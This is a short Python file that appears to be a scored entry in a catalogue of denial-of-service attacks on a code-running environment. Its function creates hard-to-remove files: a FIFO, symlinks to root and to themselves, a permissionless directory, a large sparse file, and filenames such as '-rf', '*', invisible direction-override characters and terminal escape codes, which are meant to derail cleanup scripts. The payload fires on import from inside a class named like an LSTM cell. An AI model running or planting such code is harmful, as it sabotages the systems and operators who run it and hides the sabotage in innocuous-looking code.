# /// attack
# title = "Names, links, FIFOs and holes that are hard to remove"
# group = "Denial of service"
# verdict = "OK"
# points = 100
# ///
import os


def deja():
    os.mkfifo("huella-fifo")
    os.symlink("/", "huella-raiz")
    os.symlink("huella-bucle", "huella-bucle")
    os.mkdir("huella-cerrada", 0o000)
    for nombre in (b"\xff\xfe\n", b"-rf", b" ", b"*", "\u202ehuella".encode(), b"\x1b[2J"):
        open(nombre, "w").close()
    with open("huella-hueco", "w") as archivo:
        archivo.truncate(1 << 23)
    os.chmod("huella-hueco", 0o400)


class celdaLSTM(celdaLSTM):
    deja()
